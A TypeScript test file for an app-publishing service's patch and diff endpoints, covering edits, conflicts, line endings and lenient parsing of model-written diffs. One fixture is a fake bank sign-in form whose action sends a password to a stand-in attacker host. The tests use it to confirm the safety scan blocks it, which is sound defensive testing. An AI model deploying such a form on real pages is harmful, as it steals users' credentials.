/** One topic, what a patch may have and where it fits: most tests are rows of two tables. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'

import { startTestServer, type TestAgent } from '../../testing/fixtures/test-server.ts'
import { pauseMethod } from '../../testing/pause-method.ts'
import { createPatch } from './diff.ts'

const lines = Array.from({ length: 4_000 }, (_, at) => `<p id="p${at}">Line ${at}</p>`)
const long = `<!doctype html><title>Long</title>\n${lines.join('\n')}\n`

/** A form that the safety check blocks. */
const phishing =
  '<form action="https://evil.example/steal"><p>Sign in to your bank</p><input type=password></form>'

const diffOf = (before: string, after: string, path = 'index.html'): string =>
  createPatch(path, before, after)?.text ?? ''

test('edits change lines of a page without sending the page', async () => {
  const { request, agent, close } = await startTestServer()
  const ann = await agent('ann')
  const id = await ann.publish({ html: long })
  const search = lines.slice(100, 120).join('\n')
  const body = { note: 'shout', patch: { edits: [{ search, replace: search.toUpperCase() }] } }
  expect(JSON.stringify(body).length).toBeLessThan(2_000)

  const dry = await ann.call('POST', `/apps/${id}/versions`, { ...body, dryRun: true })
  expect(dry).toMatchObject({ status: 200, body: { scan: { verdict: 'clean' } } })
  const made = await ann.call('POST', `/apps/${id}/versions`, body)
  expect(made).toMatchObject({ status: 201, body: { app: { id, version: 2 } } })
  const page = (await request('GET', `/a/${id}/data`)).body
  expect(page).toBe(long.replace(search, search.toUpperCase()))
  await close()
})

test('the diff of two versions is a patch of the first', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const after = lines.toSpliced(10, 1).toSpliced(2_000, 0, '<p>new</p>').toSpliced(3_500, 2, '<b>')
  const changed = `<!doctype html><title>Long</title>\n${after.join('\n')}`
  const id = await ann.publish({ html: long })
  await ann.call('POST', `/apps/${id}/versions`, { html: changed })

  const diff = await ann.call('GET', `/apps/${id}/diff`)
  expect(diff).toMatchObject({
    status: 200,
    body: {
      base: 1,
      version: 2,
      files: [{ path: 'index.html', change: 'changed', added: 3, removed: 4 }],
    },
  })
  const text = diff.text('files.0.diff')
  await ann.call('POST', `/apps/${id}/versions/1/restore`)
  const made = await ann.call('POST', `/apps/${id}/versions`, { patch: { version: 3, diff: text } })
  expect(made).toMatchObject({ status: 201, body: { app: { version: 4 } } })
  expect((await ann.call('GET', `/apps/${id}/html`)).body).toBe(changed)
  const same = await ann.call('GET', `/apps/${id}/diff?base=2&version=4`)
  expect(same.body).toEqual({ base: 2, version: 4, files: [] })
  await close()
})

test('a patch changes files of a folder, and a diff compares all files', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const script = 'const a = 1\nconst b = 2\n'
  const files = [
    { path: 'app/index.html', text: '<title>Folder</title><script src="main.js"></script>' },
    { path: 'app/main.js', text: script },
    { path: 'app/old.css', text: 'b { color: red }' },
  ]
  const id = await ann.publish({ html: undefined, files })
  const diff =
    diffOf(script, script.replace('2', '3'), 'main.js') +
    diffOf('<title>Folder</title>', '<title>Folders</title>')
  const wrong = await ann.call('POST', `/apps/${id}/versions`, { patch: { diff } })
  expect(wrong).toMatchObject({ status: 409, code: 'patch_conflict', body: { file: 'index.html' } })

  const edits = [
    { file: 'main.js', search: 'b = 2', replace: 'b = 3' },
    { search: 'Folder', replace: 'Folders' },
  ]
  const made = await ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })
  expect(made.status).toBe(201)
  const { body } = await ann.call('GET', `/apps/${id}/diff`)
  expect(body).toMatchObject({
    files: [
      { path: 'index.html', added: 1, removed: 1 },
      { path: 'main.js', diff: diffOf(script, script.replace('2', '3'), 'main.js') },
    ],
  })
  const unknown = { edits: [{ file: 'nope.js', search: 'b', replace: 'c' }] }
  const missing = await ann.call('POST', `/apps/${id}/versions`, { patch: unknown })
  expect(missing).toMatchObject({ status: 400, code: 'bad_request' })
  expect(missing.text('error')).toContain('It has index.html, main.js, old.css.')
  await close()
})

test('a diff of git names files beyond ASCII in quotes', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const files = [
    { path: 'index.html', text: '<title>Menu</title>' },
    { path: 'café.html', text: 'open' },
    { path: '店/猫.txt', text: 'open' },
  ]
  const id = await ann.publish({ html: undefined, files })
  const hunk = '@@ -1 +1 @@\n-open\n+closed\n'
  const cafe = '"b/caf\\303\\251.html"'
  const cat = '"b/\\345\\272\\227/\\347\\214\\253.txt"'
  const diff = [cafe, cat].map((name) => `--- ${name.replace('b/', 'a/')}\n+++ ${name}\n${hunk}`)
  const patch = { diff: diff.join('') }
  expect(await ann.call('POST', `/apps/${id}/versions`, { patch })).toMatchObject({ status: 201 })
  const { body } = await ann.call('GET', `/apps/${id}/diff`)
  expect(body).toMatchObject({ files: [{ path: 'café.html' }, { path: '店/猫.txt' }] })
  const other = { diff: `--- "a/a\\"b\\\\c"\n+++ "b/a\\"b\\\\c"\n${hunk}` }
  const missing = await ann.call('POST', `/apps/${id}/versions`, { patch: other })
  expect(missing).toMatchObject({ status: 400, code: 'bad_request' })
  expect(missing.text('error')).toContain('no file "b/a"b\\c" to patch')
  await close()
})

test('a patch has the code of the author, and keeps the location of a folder', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const page = '<script src="main.js"></script><script>let a=location.pathname</script>'
  const script = 'go(\n  location.search)\nlet{history:h,location:l}=window\n'
  const files = [
    { path: 'index.html', text: page },
    { path: 'main.js', text: script },
    { path: 'b.txt', text: 'go(location.pathname)' },
  ]
  const id = await ann.publish({ html: undefined, files })
  const read = async (app: string) => {
    const paths = ['html', 'assets/main.js', 'assets/b.txt']
    const all = await Promise.all(paths.map((path) => ann.call('GET', `/apps/${app}/${path}`)))
    return all.map(({ body }) => body)
  }
  const changed = script.replace('=window', '=window;show(location.pathname)')
  const edits = [
    { search: 'let a=location.pathname', replace: 'let b=location.pathname' },
    { file: 'b.txt', search: 'location.pathname', replace: 'location.search' },
  ]
  for (const patch of [{ diff: diffOf(script, changed, 'main.js') }, { edits }]) {
    const made = await ann.call('POST', `/apps/${id}/versions`, { patch })
    expect(made).toMatchObject({ status: 201 })
  }
  const second = await ann.publish({
    html: undefined,
    files: [
      { path: 'index.html', text: page.replace('let a', 'let b') },
      { path: 'main.js', text: changed },
      { path: 'b.txt', text: 'go(location.search)' },
    ],
  })
  const [html, code, text] = await read(second)
  expect(await read(id)).toEqual([html, code, text])
  expect(String(code)).toContain('show(locationOfFolder(/*folder*/location/*folder*/).pathname)')
  // A patch with the code of the version does the same.
  const undo = [{ file: 'main.js', search: String(code), replace: script }]
  const undone = await ann.call('POST', `/apps/${id}/versions`, { patch: { edits: undo } })
  expect(undone.text('note')).toContain('reads the location of the folder now: main.js')
  const before = await read(id)
  const diff = (await ann.call('GET', `/apps/${id}/diff`)).text('files.0.diff')
  await ann.call('POST', `/apps/${id}/versions/3/restore`)
  expect((await ann.call('POST', `/apps/${id}/versions`, { patch: { diff } })).status).toBe(201)
  expect(await read(id)).toEqual(before)
  const lone = await ann.publish({ html: page })
  await ann.call('POST', `/apps/${lone}/versions`, { patch: { edits: edits.slice(0, 1) } })
  const { body } = await ann.call('GET', `/apps/${lone}/html`)
  expect(body).toBe(page.replace('let a', 'let b'))
  await close()
})

test('a patch keeps a function of the author that has the name of ours', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const own =
    'function locationOfFolder(a){return a}\nlocationOfFolder(location/*folder*/)\nlet n=1\n'
  const other = 'go(location.hash)\nlet n=1\n'
  const files = [
    { path: 'index.html', text: '<script src="own.js"></script><script src="other.js"></script>' },
    { path: 'own.js', text: own },
    { path: 'other.js', text: other },
  ]
  const id = await ann.publish({ html: undefined, files })
  const edits = [
    { file: 'own.js', search: 'let n=1', replace: 'let n=2' },
    { file: 'other.js', search: 'let n=1', replace: 'function locationOfFolder(a){}' },
  ]
  const made = await ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })
  expect(made).toMatchObject({ status: 201 })
  const read = async (name: string) => (await ann.call('GET', `/apps/${id}/assets/${name}`)).body
  expect(await read('own.js')).toBe(own.replace('1', '2'))
  expect(await read('other.js')).toBe(other.replace('let n=1', 'function locationOfFolder(a){}'))
  await close()
})

test('patch_conflict names the nearest text and stores nothing', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const id = await ann.publish({ html: long })
  const patch = (edits: object[]) => ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })
  const first = { search: 'Line 7<', replace: 'Row 7<' }

  const gone = { search: `${lines[41]}\n<p id="p42">Row 42</p>\n${lines[43]}`, replace: '' }
  const near = await patch([first, gone])
  expect(near).toMatchObject({
    status: 409,
    code: 'patch_conflict',
    body: { version: 1, file: 'index.html', change: 2, line: 43 },
  })
  expect(near.text('nearest')).toContain('Line 42')
  expect(near.text('error')).toContain('Nothing was stored.')
  const word = await patch([{ search: 'Line 99 </p>', replace: '' }])
  expect(word).toMatchObject({ status: 409, body: { line: 101 } })
  const twice = await patch([{ search: '<p id="p1', replace: '' }])
  expect(twice.text('error')).toContain('occurs several times')
  const none = await patch([{ search: '§§', replace: '' }])
  expect(none).toMatchObject({ status: 409, body: { line: 0, nearest: '' } })
  const diff = diffOf('a\nb\nc\n', 'a\nx\nc\n')
  const hunk = await ann.call('POST', `/apps/${id}/versions`, { patch: { diff } })
  expect(hunk).toMatchObject({ status: 409, code: 'patch_conflict' })
  expect((await ann.call('GET', `/apps/${id}`)).body).toMatchObject({ app: { version: 1 } })
  await close()
})

test('a patch of a version that was replaced is a conflict', async () => {
  const { ctx, agent, close } = await startTestServer()
  const ann = await agent('ann')
  const id = await ann.publish({ html: long })
  const patch = (version: number, search: string) =>
    ann.call('POST', `/apps/${id}/versions`, {
      patch: { version, edits: [{ search, replace: 'new' }] },
    })
  expect((await patch(1, 'Line 1<')).status).toBe(201)
  const late = await patch(1, 'Line 2<')
  expect(late).toMatchObject({ status: 409, code: 'patch_conflict', body: { version: 2 } })
  expect(late.text('error')).toContain('diff?base=1&version=2')
  expect((await patch(9, 'Line 2<')).code).toBe('not_found')

  const paused = pauseMethod(ctx.storage, 'put', 2)
  const both = Promise.all([patch(2, 'Line 3<'), patch(2, 'Line 4<')])
  await paused.begun
  paused.go()
  expect((await both).map(({ status }) => status).sort()).toEqual([201, 409])
  expect((await ann.call('GET', `/apps/${id}`)).body).toMatchObject({ app: { version: 3 } })
  await close()
})

test('a repeated patch with one ref makes one version', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const id = await ann.publish({ html: long })
  const body = { ref: 'patch-0001', patch: { edits: [{ search: 'Line 5<', replace: 'X<' }] } }
  const first = await ann.call('POST', `/apps/${id}/versions`, body)
  expect(first.status).toBe(201)
  expect((await ann.call('POST', `/apps/${id}/versions`, body)).body).toEqual(first.body)
  const other = { ...body, patch: { edits: [{ search: 'Line 6<', replace: 'X<' }] } }
  expect((await ann.call('POST', `/apps/${id}/versions`, other)).code).toBe('ref_conflict')
  await close()
})

test('line ends of the page stay', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const id = await ann.publish({ html: '<title>W</title>\r\n<p>one</p>\r\n<p>two</p>\r\n' })
  const edits = [{ search: '<p>one</p>\n<p>two', replace: '<p>1</p>\n<p>2' }]
  expect((await ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })).status).toBe(201)
  const { body } = await ann.call('GET', `/apps/${id}/html`)
  expect(body).toBe('<title>W</title>\r\n<p>1</p>\r\n<p>2</p>\r\n')
  await close()
})

test('new lines have the end of most lines of the page', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const html = '<title>W</title>\n<p>one</p>\r\n<p>two</p>\n'
  const made = html.replace('two', '2').replace('<title>', '<b>\n</b>\n<title>')
  const diff = '@@\n+<b>\n+</b>\n <title>W</title>\n@@\n-<p>two</p>\n+<p>2</p>\n'
  const edits = [
    { search: '<title>', replace: '<b>\n</b>\n<title>' },
    { search: 'two', replace: '2' },
  ]
  for (const patch of [{ diff }, { edits }]) {
    const id = await ann.publish({ html })
    await ann.call('POST', `/apps/${id}/versions`, { patch })
    expect((await ann.call('GET', `/apps/${id}/html`)).body).toBe(made)
  }
  await close()
})

test('rejects invalid patches, foreign apps and pages that the safety check blocks', async () => {
  const { request, agent, close } = await startTestServer()
  const [ann, ben] = [await agent('ann'), await agent('ben')]
  const id = await ann.publish({ html: long })
  const edits = [{ search: 'Line 5<', replace: 'X<' }]
  const path = `/apps/${id}/versions`
  const bad: unknown[] = [
    {},
    { edits: [] },
    { edits, diff: '@@' },
    { diff: 'no diff' },
    { diff: '--- a\n+++ b\n@@ -1,9 +1,9 @@\n-x\n' },
    { edits: [{ search: '', replace: '' }] },
    { edits, more: 1 },
    { version: 0, edits },
  ]
  for (const patch of bad) {
    const { status, code } = await ann.call('POST', path, { patch })
    expect([patch, status, code]).toEqual([patch, 400, 'bad_request'])
  }
  expect((await ann.call('POST', path, { patch: { edits }, html: long })).code).toBe('bad_request')
  expect((await ben.call('POST', path, { patch: { edits } })).code).toBe('not_found')
  expect((await ben.call('GET', `/apps/${id}/diff`)).code).toBe('not_found')
  expect((await request('POST', `/api${path}`, { body: { patch: { edits } } })).status).toBe(401)
  expect((await ann.call('GET', `/apps/${id}/diff?base=1&version=7`)).code).toBe('not_found')
  expect((await ann.call('GET', `/apps/${id}/diff?base=x`)).code).toBe('bad_request')
  const attack = { edits: [{ search: 'Line 5<', replace: `${phishing}<` }] }
  expect((await ann.call('POST', path, { patch: attack })).code).toBe('blocked_by_scan')
  expect((await ann.call('GET', `/apps/${id}`)).body).toMatchObject({ app: { version: 1 } })
  await close()
})

describe('a diff as models write it', () => {
  const page = [
    '<!doctype html>',
    '<title>Old</title>',
    '<ul>',
    '  <li>one</li>',
    '',
    '  <li>two</li>',
    '</ul>',
    '<ul>',
    '  <li>one</li>',
    '</ul>',
    '',
  ].join('\n')
  const changed = page.replace('two', '2').replace('Old', 'New')

  let ann: TestAgent
  let close: () => Promise<void>
  beforeAll(async () => {
    const t = await startTestServer()
    ann = await t.agent('ann')
    close = t.close
  })
  afterAll(() => close())

  const patch = async (diff: string, html = page) => {
    const id = await ann.publish({ html })
    const made = await ann.call('POST', `/apps/${id}/versions`, { patch: { diff } })
    return { made, html: (await ann.call('GET', `/apps/${id}/html`)).body }
  }
  const names = '--- a/index.html\n+++ b/index.html\n'
  const second = '   <li>one</li>\n \n-  <li>two</li>\n+  <li>2</li>\n </ul>\n'
  const first = '-<title>Old</title>\n+<title>New</title>\n <ul>\n'

  test.each([
    ['right numbers', `${names}@@ -2,2 +2,2 @@\n${first}@@ -4,4 +4,4 @@\n${second}`],
    ['wrong places', `${names}@@ -7,2 +9,2 @@\n${first}@@ -40,4 +44,4 @@\n${second}`],
    ['wrong counts', `${names}@@ -2,9 +2,1 @@\n${first}@@ -4 +4,77 @@\n${second}`],
    ['no numbers', `${names}@@\n${first}@@ ... @@\n${second}`],
    ['no names of files', `@@ -2,2 +2,2 @@\n${first}@@ -4,4 +4,4 @@\n${second}`],
    [
      'CRLF',
      `${names}@@ -2,2 +2,2 @@\n${first}@@ -4,4 +4,4 @@\n${second}`.replaceAll('\n', '\r\n'),
    ],
    [
      'no space in empty lines',
      `${names}@@ -2,2 +2,2 @@\n${first}@@ -4,4 +4,4 @@\n${second}`.replace('\n \n', '\n\n'),
    ],
    [
      'no space before a line',
      `${names}@@\n${first.replace(' <ul>', '<ul>')}@@\n${second.replace(' </ul>', '</ul>')}`,
    ],
    ['no line feed at the end', `${names}@@\n${first}@@\n${second}`.trimEnd()],
    [
      'headers of git and a fence',
      `\`\`\`diff\ndiff --git a/index.html b/index.html\nindex 1..2 100644\n${names}@@ -2,2 +2,2 @@ <html>\n${first}@@ -4,4 +4,4 @@\n${second}\`\`\`\n`,
    ],
    [
      'names in quotes, and a mark of UTF-8',
      `\uFEFF--- "a/index.html"\n+++ "b/index.html"\n@@\n${first}@@\n${second}`,
    ],
    [
      'the form of apply_patch',
      `*** Begin Patch\n*** Update File: index.html\n@@\n${first}@@\n${second}*** End of File\n*** End Patch`,
    ],
  ])('changes the page with %s', async (_, diff) => {
    const { made, html } = await patch(diff)
    expect([made.status, html]).toEqual([201, changed])
    const crlf = await patch(diff, page.replaceAll('\n', '\r\n'))
    expect([crlf.made.status, crlf.html]).toEqual([201, changed.replaceAll('\n', '\r\n')])
  })

  test('changes lines that look like names of files', async () => {
    const script = '<script>\n-- old comment\n</script>\n'
    const diff = `${names}@@\n <script>\n--- old comment\n+++ counter\n </script>\n`
    expect((await patch(diff, script)).html).toBe(script.replace('-- old comment', '++ counter'))
    const both = `${names}@@\n${first}${names}@@\n${second}`
    expect((await patch(both)).html).toBe(changed)
  })

  test('adds lines by a number alone, and at both ends of the page', async () => {
    const lines = '<p>1</p>\n<p>2</p>\n<p>3</p>'
    expect((await patch('@@ -1,0 +2,1 @@\n+<p>new</p>', lines)).html).toBe(
      '<p>1</p>\n<p>new</p>\n<p>2</p>\n<p>3</p>',
    )
    expect((await patch('@@ -0,0 +1 @@\n+<b>', lines)).html).toBe(`<b>\n${lines}`)
    const end = '@@ -3 +3,2 @@\n <p>3</p>\n+<p>4</p>'
    expect((await patch(end, lines)).html).toBe(`${lines}\n<p>4</p>`)
    const more = '@@ -3 +3 @@\n-<p>3</p>\n\\ No newline at end of file\n+<p>3</p>\n'
    expect((await patch(more, lines)).html).toBe(`${lines}\n`)
    const fewer = '@@ -3 +3 @@\n-<p>3</p>\n+<p>3</p>\n\\ No newline at end of file\n'
    expect((await patch(fewer, `${lines}\n`)).html).toBe(lines)
  })

  test('changes lines that occur twice at their number only', async () => {
    const hunk = (at: number) => `@@ -${at},2 +${at},2 @@\n <ul>\n-  <li>one</li>\n+  <li>1</li>\n`
    expect((await patch(hunk(8))).html).toBe(page.replace(/one(?![^]*one)/, '1'))
    const { made, html } = await patch(hunk(5))
    expect(made).toMatchObject({ status: 409, code: 'patch_conflict' })
    expect(made.text('error')).toContain('occurs several times, at lines 3, 8: add lines around it')
    expect(html).toBe(page)
  })

  test('names the nearest lines where spaces differ, and stores nothing', async () => {
    const diff = '@@ -5,3 +5,3 @@\n <li>two</li>\n-</ul>\n+</ol>\n'
    const { made, html } = await patch(diff)
    expect(made).toMatchObject({ status: 409, body: { change: 1, line: 6 } })
    expect(made.text('nearest')).toStartWith('  <li>two</li>\n</ul>')
    expect(html).toBe(page)
    const minified = `<script>${'a=1;'.repeat(500)}function jump(){speed=4}${'b=2;'.repeat(500)}</script>`
    const long = await patch('@@\n-function jump() {\n+function leap() {\n', minified)
    expect(long.made.text('nearest')).toContain('function jump(){speed=4}')
  })

  test.each([
    ['@@ -1,2 +1,2 @@\n', 'a line with @@ has no lines with - or + after it'],
    ['@@\n <ul>\n', 'a line with @@ has no lines with - or + after it'],
    [`@@\n${first}\`\`\`\n<ul>\n`, 'line 6 has no line with @@ before it. Lines that stay begin'],
    [`@@\n${first}\`\`\`\n--- old\n+++ new\n`, 'line 6 has no line with @@ before it'],
    ['-<title>Old</title>\n+<title>New</title>\n', 'line 1 has no line with @@ before it'],
    ['--- /dev/null\n+++ b/new.js\n@@ -0,0 +1 @@\n+x\n', 'line 1 adds or deletes a file'],
    ['Change the title to New.', 'The diff changes nothing'],
    [
      '<<<<<<< SEARCH\nOld\n=======\nNew\n>>>>>>> REPLACE',
      'line 1 begins a search: send it in "edits"',
    ],
  ])('says what is wrong with %j', async (diff, problem) => {
    const { made, html } = await patch(diff)
    expect(made).toMatchObject({ status: 400, code: 'bad_request' })
    expect(made.text('error')).toContain(problem)
    expect(html).toBe(page)
  })
})

test('line ends of a search do not matter', async () => {
  const { agent, close } = await startTestServer()
  const ann = await agent('ann')
  const id = await ann.publish({ html: '<title>W</title>\n<p>one</p>\n<p>two</p>\n' })
  const edits = [{ search: '<p>one</p>\r\n<p>two', replace: '<p>1</p>\r\n<p>2' }]
  expect((await ann.call('POST', `/apps/${id}/versions`, { patch: { edits } })).status).toBe(201)
  const { body } = await ann.call('GET', `/apps/${id}/html`)
  expect(body).toBe('<title>W</title>\n<p>1</p>\n<p>2</p>\n')
  await close()
})
